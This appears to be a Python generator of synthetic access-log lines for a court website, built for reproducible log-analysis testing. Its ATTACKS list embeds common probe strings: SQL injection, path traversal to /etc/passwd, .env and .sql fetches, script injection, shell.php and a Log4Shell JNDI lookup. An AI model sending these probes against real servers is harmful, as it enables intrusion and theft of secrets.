"""Makes the lines of an access log that is like a court's: the same each time.

How much there is of each kind is near to what was seen in real logs that were put together: of five million lines
over a week 100,000 addresses (a few come often, most once), 320,000 requests, 128,000 referers, 2,084 agents, 5 per
cent of lines with something encoded or asked for by attackers, 1.5 per cent of attacks. Visitors' requests stand
between each other's, as servers write them.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from itertools import product
from typing import NamedTuple

VISITORS = 190_000
PAGES = 230_000
FILES = 60_000
AT_ONCE = 40  # visitors whose requests come in turn
WEEK = 604_800
_TOPICS = (
    "putusan perkara pidana berita pengumuman jadwal sidang layanan informasi pelayanan hukum posbakum ecourt sipp "
    "profil pengadilan struktur hakim panitera statistik laporan keuangan zona integritas biaya panjar kontak galeri"
)
WORDS = _TOPICS.split()
ATTACKS = (
    "/?id=1%27%20UNION%20SELECT%20{n},2,3--",
    "/wp-content/plugins/x{n}/../../../../etc/passwd",
    "/.env",
    "/wp-login.php",
    "/index.php?x{n}=%3Cscript%3Ealert(1)%3C/script%3E",
    "/shell{n}.php",
    "/?x=${{jndi:ldap://e/{n}}}",
    "/old/{n}.sql",
)
_SYSTEMS = (
    "Windows NT 10.0; Win64; x64",
    "Windows NT 6.1; WOW64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    *(
        f"Linux; Android {version}; {model}"
        for version, model in product(
            range(9, 15), ("SM-A155F", "SM-G991B", "Redmi Note 12", "CPH2471", "V2120", "RMX3085", "Infinix X6711", "K")
        )
    ),
)
_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "WhatsApp/2.23.20.0",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "okhttp/4.9.3",
    "-",
)
_OTHER_BOTS = ("DotBot", "BLEXBot", "DataForSeoBot", "SeznamBot")


class _Site(NamedTuple):
    """What is asked for, and by which programs."""

    pages: Sequence[str]
    files: Sequence[str]
    agents: Sequence[str]


class _Visit(NamedTuple):
    """A visitor, and what he still asks for: target, status, referer."""

    address: str
    agent: str
    asked: list[tuple[str, int, str]]


def lines(count: int) -> Iterator[str]:
    """So many lines, in the combined form."""
    chance = random.Random(7)
    site = _Site([_page(chance, n) for n in range(PAGES)], [_file(chance, n) for n in range(FILES)], _agents(chance))
    visits = [_visit(chance, site) for _ in range(AT_ONCE)]
    for number in range(count):
        turn = chance.randrange(AT_ONCE)
        visit = visits[turn]
        target, status, referer = visit.asked.pop()
        if not visit.asked:
            visits[turn] = _visit(chance, site)
        second = number * WEEK // count
        day, hour, minute = 1 + second // 86_400, second // 3600 % 24, second // 60 % 60
        method = "POST" if status == 403 or chance.random() < 0.02 else "GET"
        yield (
            f"{visit.address} - - [{day:02d}/Nov/2026:{hour:02d}:{minute:02d}:{second % 60:02d} +0700] "
            f'"{method} {target} HTTP/1.1" {status} {chance.randint(200, 90_000)} "{referer}" "{visit.agent}"\n'
        )


def _visit(chance: random.Random, site: _Site) -> _Visit:
    who = _rank(chance, VISITORS)
    address = f"{36 + who % 180}.{who // 180 % 256}.{who // 46_080 % 256 + who % 7 * 30}.{1 + who % 254}"
    agent = site.agents[who * 7919 % len(site.agents)]
    if chance.random() < 0.045:
        return _Visit(address, agent, [_attack(chance) for _ in range(chance.randint(1, 4))])
    came_from = "-" if chance.random() < 0.5 else _search(chance)
    page = site.pages[_rank(chance, PAGES)]
    asked = [(page, chance.choice((200,) * 30 + (301, 404)), came_from)]
    for _ in range(chance.randint(2, 11)):
        asked.append(_next(chance, site, f"https://pn-contoh.go.id{page}"))
    return _Visit(address, agent, asked[::-1])


def _rank(chance: random.Random, most: int) -> int:
    """A number below `most`; the n-th is 1/n as frequent as the first (Zipf)."""
    return int(most ** chance.random()) - 1


def _next(chance: random.Random, site: _Site, referer: str) -> tuple[str, int, str]:
    if chance.random() < 0.6:
        return site.files[_rank(chance, FILES)], chance.choice((200,) * 9 + (304,)), referer
    if chance.random() < 0.05:
        words = "%20".join(chance.choices(WORDS, k=2))
        return f"/component/search/?searchword={words}", 200, referer
    return site.pages[_rank(chance, PAGES)], chance.choice((200,) * 30 + (301, 404)), referer


def _attack(chance: random.Random) -> tuple[str, int, str]:
    return chance.choice(ATTACKS).format(n=chance.randint(1, 9999)), chance.choice((404, 404, 403, 200)), "-"


def _search(chance: random.Random) -> str:
    words = "%20".join(chance.choices(WORDS, k=3))
    return f"https://www.google.com/search?q={words}" if chance.random() < 0.3 else "https://www.google.com/"


def _page(chance: random.Random, number: int) -> str:
    if number % 6 == 0:
        return f"/index.php?option=com_content&view=article&id={number}&catid={number % 60}&Itemid={number % 200}"
    return f"/{chance.choice(WORDS)}/{number}-{chance.choice(WORDS)}-{chance.choice(WORDS)}"


def _file(chance: random.Random, number: int) -> str:
    ending = chance.choice(("jpg", "png", "css", "js?v=3.2", "pdf", "webp"))
    return f"/images/{chance.choice(WORDS)}/{chance.choice(WORDS)}_{number}.{ending}"


def _agents(chance: random.Random) -> list[str]:
    """Browsers of several years on several systems, one in fifteen a bot."""
    found = dict.fromkeys(_BOTS)
    while len(found) < 2084:
        system, major = chance.choice(_SYSTEMS), chance.randint(96, 131)
        mobile = " Mobile" if "Android" in system else ""
        engine = "AppleWebKit/537.36 (KHTML, like Gecko)"
        build = chance.choice((0, 0, 4515, 6099))
        chrome = f"Mozilla/5.0 ({system}) {engine} Chrome/{major}.0.{build}.0{mobile} Safari/537.36"
        phone = f"iPhone; CPU iPhone OS {chance.randint(13, 18)}_{chance.randint(0, 7)} like Mac OS X"
        safari = f"Mozilla/5.0 ({phone}) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        kind = chance.choice(
            (
                chrome,
                chrome,
                f"{chrome} Edg/{major}.0.0.0",
                f"{chrome} OPR/{major - 14}.0.0.0",
                f"Mozilla/5.0 ({system}; rv:{major}.0) Gecko/20100101 Firefox/{major}.0",
                f"{safari} Version/{chance.randint(13, 18)}.{chance.randint(0, 6)} Mobile/15E148 Safari/604.1",
                f"{safari} Mobile/15E148 [FBAN/FBIOS;FBAV/{chance.randint(300, 480)}.0.0.31.103]",
                f"Mozilla/5.0 (compatible; {chance.choice(_OTHER_BOTS)}/1.{chance.randint(0, 30)})",
            )
        )
        found[kind] = None
    return list(found)
